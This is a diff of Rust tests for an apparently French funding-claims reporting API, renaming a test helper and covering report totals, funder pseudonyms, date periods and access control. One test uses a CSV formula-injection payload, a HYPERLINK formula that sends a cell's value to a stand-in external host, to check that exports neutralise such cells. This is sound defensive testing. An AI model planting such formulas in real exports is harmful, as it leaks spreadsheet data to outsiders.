@@ -7,7 +7,7 @@ use standards::Cents;
 
 use crate::bank::{naming, returning};
 use crate::cycle::{HELD, PAID, march};
-use crate::world::{FUNDERS, OTHER_IBAN, PROGRAMME, STRUCTURE_IBAN, World, id, instant};
+use crate::fixture::{FUNDERS, Fixture, OTHER_IBAN, PROGRAMME, STRUCTURE_IBAN, id, instant};
 
 type Line = BTreeMap<String, String>;
 
@@ -18,8 +18,8 @@ fn lines(csv: &[u8]) -> Vec<Line> {
         .collect()
 }
 
-async fn report(world: &World, query: &str) -> Vec<Line> {
-    lines(&world.get(&format!("/funding/v1/reports/claims{query}")).await)
+async fn report(fixture: &Fixture, query: &str) -> Vec<Line> {
+    lines(&fixture.get(&format!("/funding/v1/reports/claims{query}")).await)
 }
 
 fn sum<'l>(lines: impl Iterator<Item = &'l Line>, column: &str) -> Cents {
@@ -27,12 +27,12 @@ fn sum<'l>(lines: impl Iterator<Item = &'l Line>, column: &str) -> Cents {
 }
 
 /// Of each funder: what is claimed and what is paid, by the lines and by the waterfall.
-async fn sums_agree(world: &World) -> Vec<(Cents, Cents)> {
-    let all = report(world, "").await;
-    let waterfall = world.get_json("/funding/v1/waterfall").await;
+async fn sums_agree(fixture: &Fixture) -> Vec<(Cents, Cents)> {
+    let all = report(fixture, "").await;
+    let waterfall = fixture.get_json("/funding/v1/waterfall").await;
     let mut sums = Vec::new();
     for funder in FUNDERS {
-        let mine: Vec<Line> = report(world, &format!("?funder_id={funder}")).await;
+        let mine: Vec<Line> = report(fixture, &format!("?funder_id={funder}")).await;
         let kept: Vec<&Line> = all
             .iter()
             .filter(|line| line["funder_id"] == funder.to_string())
@@ -61,11 +61,11 @@ fn cents(amounts: [(i64, i64); 2]) -> Vec<(Cents, Cents)> {
 /// Paid, returned, paid elsewhere, reversed, deducted, expired: the lines follow the waterfall to the cent, funder by funder.
 #[testkit::test]
 async fn lines_sum_to_the_waterfall_whatever_happens(admin: PgPool) {
-    let world = march(admin).await;
-    assert_eq!(sums_agree(&world).await, cents([(1336, 0), (2664, 0)]));
-    let first = world.settle(1, "2026-03", "2026-04-03").await;
-    sums_agree(&world).await;
-    let sent = report(&world, &format!("?funder_id={}", FUNDERS[0])).await;
+    let fixture = march(admin).await;
+    assert_eq!(sums_agree(&fixture).await, cents([(1336, 0), (2664, 0)]));
+    let first = fixture.settle(1, "2026-03", "2026-04-03").await;
+    sums_agree(&fixture).await;
+    let sent = report(&fixture, &format!("?funder_id={}", FUNDERS[0])).await;
     assert_eq!(
         sent.iter()
             .map(|line| line["payment_state"].as_str())
@@ -74,58 +74,58 @@ async fn lines_sum_to_the_waterfall_whatever_happens(admin: PgPool) {
     );
 
     let end_to_end = &first["payments"][0]["end_to_end"];
-    world
+    fixture
         .loads(
             2,
             "200.00",
             vec![naming("-20.00", end_to_end), returning("20.00", end_to_end)],
         )
         .await;
-    assert_eq!(sums_agree(&world).await, cents([(1336, 0), (2664, 0)]));
-    let returned = report(&world, &format!("?funder_id={}", FUNDERS[0])).await;
+    assert_eq!(sums_agree(&fixture).await, cents([(1336, 0), (2664, 0)]));
+    let returned = report(&fixture, &format!("?funder_id={}", FUNDERS[0])).await;
     assert!(returned.iter().all(|line| line["payment_id"].is_empty()));
 
-    world
+    fixture
         .has_structure(PAID, Some(OTHER_IBAN), "2026-04-02T00:00:00Z")
         .await;
-    let again = world.settle(2, "2026-03", "2026-04-03").await;
-    world
+    let again = fixture.settle(2, "2026-03", "2026-04-03").await;
+    fixture
         .loads(3, "200.00", vec![naming("-20.00", &again["payments"][0]["end_to_end"])])
         .await;
-    assert_eq!(sums_agree(&world).await, cents([(1336, 668), (2664, 1332)]));
+    assert_eq!(sums_agree(&fixture).await, cents([(1336, 668), (2664, 1332)]));
 
     // Undone after it was paid: no longer claimed, still paid, until the next payment takes it back.
-    world
+    fixture
         .reverses_after_settlement(id(201), PAID, &[1, 2], "2026-04-05T10:00:00Z")
         .await;
-    assert_eq!(sums_agree(&world).await, cents([(668, 668), (1332, 1332)]));
-    world.hand.move_to(instant("2026-05-02T08:00:00Z"));
-    world.claims(id(204), PAID, &[1, 2, 5], "2026-04-06T10:00:00Z").await;
-    let april = world.settle(3, "2026-04", "2026-05-04").await;
-    world
+    assert_eq!(sums_agree(&fixture).await, cents([(668, 668), (1332, 1332)]));
+    fixture.hand.move_to(instant("2026-05-02T08:00:00Z"));
+    fixture.claims(id(204), PAID, &[1, 2, 5], "2026-04-06T10:00:00Z").await;
+    let april = fixture.settle(3, "2026-04", "2026-05-04").await;
+    fixture
         .loads(4, "180.00", vec![naming("-20.00", &april["payments"][0]["end_to_end"])])
         .await;
-    let [(a, paid_a), (b, paid_b)] = sums_agree(&world).await.try_into().unwrap();
+    let [(a, paid_a), (b, paid_b)] = sums_agree(&fixture).await.try_into().unwrap();
     assert_eq!(Cents::try_sum([a, b]), Some(Cents::new(5000)));
     assert_eq!(Cents::try_sum([paid_a, paid_b]), Some(Cents::new(4000)));
 
-    world.hand.move_to(instant("2026-08-10T08:00:00Z"));
-    world.expires(&[], "2026-08-08T10:00:00Z").await;
-    sums_agree(&world).await;
-    world.all_hold().await;
+    fixture.hand.move_to(instant("2026-08-10T08:00:00Z"));
+    fixture.expires(&[], "2026-08-08T10:00:00Z").await;
+    sums_agree(&fixture).await;
+    fixture.all_hold().await;
 }
 
 #[testkit::test]
 async fn a_line_says_what_was_done_where_and_never_who(admin: PgPool) {
-    let world = march(admin).await;
+    let fixture = march(admin).await;
     sqlx::query("update redemption.structure set commune = 'Dijon', place = '{\"code_insee\": \"21231\"}'")
-        .execute(&world.admin)
+        .execute(&fixture.admin)
         .await
         .unwrap();
-    world
+    fixture
         .has_structure(HELD, Some(STRUCTURE_IBAN), "2026-03-02T00:00:00Z")
         .await;
-    let bytes = world.get("/funding/v1/reports/claims").await;
+    let bytes = fixture.get("/funding/v1/reports/claims").await;
     let all = lines(&bytes);
     assert_eq!(all.len(), 6, "three claims of two funders");
     let line = &all[0];
@@ -168,9 +168,9 @@ async fn a_line_says_what_was_done_where_and_never_who(admin: PgPool) {
 /// A structure's id is made from its SIRET, which everybody can look up: a funder must not be able to try them all.
 #[testkit::test]
 async fn a_structure_has_a_pseudonym_that_is_one_funders_and_stays(admin: PgPool) {
-    let world = march(admin).await;
+    let fixture = march(admin).await;
     let named = async |funder: uuid::Uuid| -> BTreeMap<String, String> {
-        let lines = report(&world, &format!("?funder_id={funder}")).await;
+        let lines = report(&fixture, &format!("?funder_id={funder}")).await;
         lines
             .into_iter()
             .map(|mut line| (line.remove("claim_id").unwrap(), line.remove("structure").unwrap()))
@@ -193,7 +193,7 @@ async fn a_structure_has_a_pseudonym_that_is_one_funders_and_stays(admin: PgPool
     assert!(mine.is_disjoint(&theirs), "two funders cannot compare");
     // Another installation names them otherwise: nothing public makes a pseudonym.
     sqlx::query("update funding.pseudonym_secret set secret = sha256(secret)")
-        .execute(&world.admin)
+        .execute(&fixture.admin)
         .await
         .unwrap();
     let elsewhere = named(FUNDERS[0]).await;
@@ -203,9 +203,9 @@ async fn a_structure_has_a_pseudonym_that_is_one_funders_and_stays(admin: PgPool
 /// The last second of March is April in Paris: the same day as in the settlement.
 #[testkit::test]
 async fn a_period_is_of_paris_days_and_a_programme_is_one(admin: PgPool) {
-    let world = march(admin).await;
+    let fixture = march(admin).await;
     let claims = async |query: &str| {
-        let found = report(&world, query).await;
+        let found = report(&fixture, query).await;
         let mut found: Vec<String> = found.into_iter().map(|line| line["claim_id"].clone()).collect();
         found.dedup();
         found
@@ -218,24 +218,24 @@ async fn a_period_is_of_paris_days_and_a_programme_is_one(admin: PgPool) {
         claims(&format!("?programme_id={PROGRAMME}")).await,
         named(&[202, 201, 203])
     );
-    let nothing = world
+    let nothing = fixture
         .get(&format!("/funding/v1/reports/claims?programme_id={}", id(0x99)))
         .await;
     assert!(nothing.starts_with(b"claim_id,programme_id,") && nothing.ends_with(b",payment_state\n"));
     assert_eq!(
-        world
+        fixture
             .status("/funding/v1/reports/claims?from=2026-04-01&to=2026-03-01")
             .await,
         400
     );
-    assert_eq!(world.status("/funding/v1/reports/claims?from=avril").await, 400);
+    assert_eq!(fixture.status("/funding/v1/reports/claims?from=avril").await, 400);
 }
 
 #[testkit::test]
 async fn a_funder_reads_its_own_shares_and_no_others(admin: PgPool) {
-    let world = march(admin).await;
-    let own = world.key_of(FUNDERS[0], None).await;
-    let read = async |path: String, key: &str| world.send("GET", &path, key, Vec::new()).await;
+    let fixture = march(admin).await;
+    let own = fixture.key_of(FUNDERS[0], None).await;
+    let read = async |path: String, key: &str| fixture.send("GET", &path, key, Vec::new()).await;
     let (status, bytes) = read("/funding/v1/reports/claims".to_owned(), &own).await;
     assert_eq!(status, StatusCode::OK);
     let mine = lines(&bytes);
@@ -248,13 +248,13 @@ async fn a_funder_reads_its_own_shares_and_no_others(admin: PgPool) {
     let refused: Value = serde_json::from_slice(&refused).unwrap();
     assert!(refused["detail"].as_str().unwrap().contains("ses propres parts"));
     let structure = json!({"id": PAID, "name": "Médiathèque", "roles": ["structure"]});
-    let structure = world.key_of(PAID, Some(structure)).await;
+    let structure = fixture.key_of(PAID, Some(structure)).await;
     assert_eq!(
         read("/funding/v1/reports/claims".to_owned(), &structure).await.0,
         StatusCode::FORBIDDEN
     );
     let auditor = json!({"id": id(0x77), "name": "Cour des comptes", "roles": ["auditor"]});
-    let auditor = world.key_of(id(0x77), Some(auditor)).await;
+    let auditor = fixture.key_of(id(0x77), Some(auditor)).await;
     assert_eq!(
         lines(&read("/funding/v1/reports/claims".to_owned(), &auditor).await.1).len(),
         6
@@ -264,7 +264,7 @@ async fn a_funder_reads_its_own_shares_and_no_others(admin: PgPool) {
 /// Whoever names a programme or a structure writes into other people's spreadsheets.
 #[testkit::test]
 async fn a_name_is_never_a_formula(admin: PgPool) {
-    let world = march(admin).await;
+    let fixture = march(admin).await;
     let formula = r#"=HYPERLINK("http://ailleurs.example/"&B2;"détail")"#;
     for update in [
         "update catalogue.programme set name = $1",
@@ -272,16 +272,16 @@ async fn a_name_is_never_a_formula(admin: PgPool) {
         "update access.organisation set name = $1 where 'funder' = any(roles)",
         "update funding.funder set name = $1",
     ] {
-        sqlx::query(update).bind(formula).execute(&world.admin).await.unwrap();
+        sqlx::query(update).bind(formula).execute(&fixture.admin).await.unwrap();
     }
-    world.settle(1, "2026-03", "2026-04-03").await;
+    fixture.settle(1, "2026-03", "2026-04-03").await;
     let mut told = 0;
     for file in [
         "/funding/v1/reports/claims",
         "/funding/v1/reports/waterfall?format=csv",
         "/funding/v1/holds?format=csv",
     ] {
-        let bytes = world.get(file).await;
+        let bytes = fixture.get(file).await;
         for record in csv::Reader::from_reader(&bytes[..]).records() {
             for cell in &record.unwrap() {
                 assert!(!cell.starts_with(['=', '+', '@']), "{file}: {cell}");
